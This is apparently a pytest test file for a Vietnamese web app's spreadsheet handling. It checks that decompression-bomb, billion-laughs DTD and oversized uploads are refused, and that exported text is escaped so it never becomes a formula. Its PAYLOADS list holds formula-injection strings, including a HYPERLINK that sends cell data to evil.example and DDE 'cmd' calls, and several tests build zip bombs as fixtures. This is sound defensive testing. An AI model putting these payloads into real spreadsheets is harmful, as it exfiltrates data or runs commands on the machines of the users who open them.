"""Safe spreadsheets (app/spreadsheets.py): uploads that would exhaust memory or time are refused with
a reason before they are unpacked; exported text never becomes a formula."""
import io
import random
import re
import time
import zipfile

import openpyxl
import pytest
from openpyxl import Workbook

from app.models import Role, State
from app.spreadsheets import Limits, MiB, SheetWriter, SpreadsheetRefused, check_archive, escape, read_sheet, unescape
from tests import bombs

NOT_VALID = "The file is not an Excel workbook (.xlsx)."
# OWASP's formula-injection examples and every character it lists, plus text already starting with a quote.
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=1+1", "'quoted", "''", "#N/A"]


def xlsx(rows) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(list(row))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def refusal(content: bytes, **kw) -> str:
    started = time.perf_counter()
    with pytest.raises(SpreadsheetRefused) as refused:
        read_sheet(content, columns=7, max_rows=kw.pop("max_rows", 2000), **kw)
    # Refusing costs no unpacking: unpacking a bomb would take many seconds and gigabytes.
    assert time.perf_counter() - started < 5
    return refused.value.message


def sheet_xml(rows: str, dimension: str = "") -> tuple[bytes, int, int]:
    return bombs.deflated(f'<worksheet xmlns="{bombs.MAIN_NS}">{dimension}<sheetData>{rows}</sheetData>'
                          f'</worksheet>'.encode())


# --- uploads: bounded memory and time --------------------------------------------------------------

def test_a_sheet_of_hundreds_of_millions_of_empty_rows_is_refused_before_it_is_unpacked():
    content = bombs.empty_rows_bomb()
    assert len(content) < 5 * 2**20  # it passes the upload limit: only the unpacked size tells
    # 1.536: one thousand five hundred and thirty-six, in the Vietnamese notation of the tests' locale.
    assert refusal(content) == "Part xl/worksheets/sheet1.xml of the file unpacks to 1.536 MB (at most 20 MB)."


def test_a_shared_string_of_a_gigabyte_is_refused_before_it_is_unpacked():
    assert refusal(bombs.shared_string_bomb()) == ("Part xl/sharedStrings.xml of the file unpacks to 1.024 MB "
                                                   "(at most 20 MB).")


def test_a_part_that_unpacks_past_the_size_its_directory_claims_is_refused():
    honest = bombs.deflated(b"<worksheet/>", b"<row/>" * 10_000, 300)
    lying = (honest[0], honest[1], 1000)  # the directory says 1,000 bytes: zipfile stops there, the CRC fails
    content = bombs.workbook(lying)
    assert refusal(content) == NOT_VALID


def test_a_part_that_inflates_like_a_bomb_is_refused_even_when_small():
    rows = "<row/>" * 200_000  # 1.2 MB, well under the size limits, but packed about a thousand times
    message = refusal(bombs.workbook(sheet_xml(rows)))
    assert re.fullmatch(r"Part xl/worksheets/sheet1.xml of the file unpacks to \d{3,4} times its packed size "
                        r"\(at most 100\): it looks like a decompression bomb.", message)


def test_a_row_of_120_000_cells_is_refused_by_counting_them():
    # Each cell names its own place, so the part packs like ordinary data; openpyxl would build every cell.
    cells = "".join(f'<c r="A{n}"/>' for n in range(120_000))
    message = refusal(bombs.workbook(sheet_xml(f"<row>{cells}</row>")))
    assert message == ("The file holds more than 100.000 XML elements: save only the sheet to import, without "
                       "empty formatted rows or columns.")


def test_a_text_longer_than_a_cell_can_hold_is_refused_before_openpyxl_reads_it():
    strings = bombs.deflated(f'<sst xmlns="{bombs.MAIN_NS}"><si><t>'.encode() + b"ab" * 6_000_000 + b"</t></si></sst>")
    sheet = sheet_xml('<row r="2"><c r="D2" t="s"><v>0</v></c></row>')
    assert refusal(bombs.workbook(sheet, strings), limits=Limits(max_ratio=10**6)) == (
        "A text in the file is longer than 32.767 characters, the most a cell holds.")


def test_a_document_type_declaration_is_refused():
    laughs = ('<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY a "hahahahahahahahahaha">'
              '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
              f'<worksheet xmlns="{bombs.MAIN_NS}"><sheetData><row><c t="inlineStr"><is><t>&b;</t></is></c></row>'
              '</sheetData></worksheet>')
    assert refusal(bombs.workbook(bombs.deflated(laughs.encode()))) == (
        "The file contains a document type declaration (DTD), which Office files never contain.")


def a_workbook_of_about_a_megabyte() -> bytes:
    """3,000 rows of text: 160 KB packed, its sheet 1.1 MB unpacked."""
    rng = random.Random(13)
    words = "hoàn thành nhiệm vụ chỉ tiêu kế hoạch năm đơn vị tổ chức phong trào thi đua".split()
    return xlsx([" ".join(rng.choices(words, k=30)) + f" {rng.random()}"] for _ in range(3000))


@pytest.mark.parametrize("limits, message", [
    (Limits(max_file_bytes=100 * 1024), "The file is larger than 0,1 MB."),  # the tests' locale is Vietnamese
    (Limits(max_members=5), "The file has too many parts (9; at most 5)."),
    (Limits(max_member_bytes=MiB), "Part xl/worksheets/sheet1.xml of the file unpacks to 1,1 MB (at most 1 MB)."),
    (Limits(max_total_bytes=MiB), "The file unpacks to 1,1 MB (at most 1 MB)."),
    (Limits(max_elements=100), "The file holds more than 100 XML elements: save only the sheet to import, without "
                               "empty formatted rows or columns."),
])
def test_each_limit_refuses_with_its_reason(limits, message):
    content = a_workbook_of_about_a_megabyte()
    assert len(read_sheet(content, columns=1, max_rows=3000)) == 2999  # within the default limits
    assert refusal(content, limits=limits) == message


@pytest.mark.parametrize("content", [
    b"", b"Loai,Nhom,Ma\r\nTieu chi,I,1.1\r\n",
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,  # an Excel 97 .xls
    xlsx([["x"]])[:-100],  # cut short
])
def test_a_file_that_is_no_workbook_is_refused(content):
    assert refusal(content) == NOT_VALID


def test_parts_packed_with_other_methods_than_deflate_are_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx([["x"]]))) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_LZMA) as copy:
        for name in source.namelist():
            copy.writestr(name, source.read(name))
    assert refusal(out.getvalue()) == NOT_VALID


def test_a_docx_goes_through_the_same_check():
    import docx

    document = docx.Document()
    document.add_paragraph("Quyết định")
    out = io.BytesIO()
    document.save(out)
    check_archive(out.getvalue(), "not a .docx")  # an ordinary document passes
    with pytest.raises(SpreadsheetRefused, match="has too many parts"):
        check_archive(out.getvalue(), "not a .docx", Limits(max_members=3))


# --- reading rows ------------------------------------------------------------------------------------

def test_rows_are_read_to_the_last_one_whatever_size_the_file_records():
    # Some programs write a stale <dimension>; openpyxl's read-only mode would stop reading there.
    rows = "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(1, 6))
    content = bombs.workbook(sheet_xml(rows, '<dimension ref="A1:A2"/>'))
    assert [number for number, _ in read_sheet(content, columns=2, max_rows=10)] == [2, 3, 4, 5]


def test_blank_rows_are_skipped_and_a_long_run_of_them_ends_the_table():
    rows = ('<row r="2"><c r="A2"><v>2</v></c></row><row r="5"><c r="A5"><v>5</v></c></row>'
            '<row r="999999999"><c r="A999999999"><v>9</v></c></row>')  # a billion rows on: never reached
    started = time.perf_counter()
    assert read_sheet(bombs.workbook(sheet_xml(rows)), columns=2, max_rows=10) == [(2, (2, None)), (5, (5, None))]
    assert time.perf_counter() - started < 5


def test_more_rows_than_the_limit_are_refused():
    content = xlsx([["header"]] + [[f"row {n}"] for n in range(4)])
    assert refusal(content, max_rows=3) == "Too many rows (at most 3)."
    assert len(read_sheet(content, columns=1, max_rows=4)) == 4


# --- writing: text stays text -------------------------------------------------------------------------

def written(rows) -> list[list]:
    writer = SheetWriter("Test")
    for row in rows:
        writer.append(row)
    sheet = openpyxl.load_workbook(io.BytesIO(writer.to_bytes())).active
    return [[cell for cell in row] for row in sheet.iter_rows()]


def test_text_that_looks_like_a_formula_is_written_as_text_and_reads_back_as_typed():
    [cells] = written([PAYLOADS])
    assert [cell.data_type for cell in cells] == ["s"] * len(PAYLOADS)
    assert [unescape(cell.value) for cell in cells] == PAYLOADS
    # The quote before formula-like text is part of the value: a CSV saved from it stays inert.
    assert [cell.value[0] for cell in cells[:-1]] == ["'"] * (len(PAYLOADS) - 1)
    assert cells[-1].value == "#N/A"  # not an error cell


def test_numbers_dates_and_empty_cells_are_written_as_they_are():
    from datetime import date
    from decimal import Decimal

    [cells] = written([[1, -2.5, Decimal("7.25"), date(2025, 1, 2), None, "Sở Y tế"]])
    assert [cell.value for cell in cells[:3]] == [1, -2.5, 7.25]
    assert [cell.data_type for cell in cells[:3]] == ["n", "n", "n"]
    assert cells[3].value.date() == date(2025, 1, 2) and cells[4].value is None and cells[5].value == "Sở Y tế"


def test_control_characters_pasted_from_word_do_not_break_the_export():
    [[cell]] = written([["Nguyễn Văn A\x0bGiám đốc\x01"]])
    assert cell.value == "Nguyễn Văn A Giám đốc "


@pytest.mark.parametrize("text", PAYLOADS + ["", "'", "plain", "a=b", "'a", "''=x"])
def test_unescape_undoes_escape_exactly(text):
    assert unescape(escape(text)) == text


def test_a_quote_typed_before_ordinary_text_in_a_workbook_is_kept():
    assert unescape("'Sở Y tế") == "'Sở Y tế"


# --- the submission list ------------------------------------------------------------------------------

def test_the_submission_list_keeps_nominees_named_like_formulas_as_text(make, app):
    unit = make.make_unit("Sở Khoa học và Công nghệ")
    head = make.make_actor(Role.UNIT_HEAD, unit)
    names = PAYLOADS[:5]
    dossiers = [make.make_complete_dossier(unit, state=State.SUBMITTED, name=name, nominee_position="=1+1")
                for name in names]
    client = make.signed_in_client(app, head)
    response = client.get("/inbox/submission-list.xlsx?ids=" + ",".join(str(d.id) for d in dossiers))
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    assert [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"] == []
    body = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=5)]
    assert [unescape(row[1]) for row in body] == names
    assert [unescape(row[3]) for row in body] == ["=1+1"] * len(names)
    assert [row[0] for row in body] == [1, 2, 3, 4, 5]  # numbers stay numbers
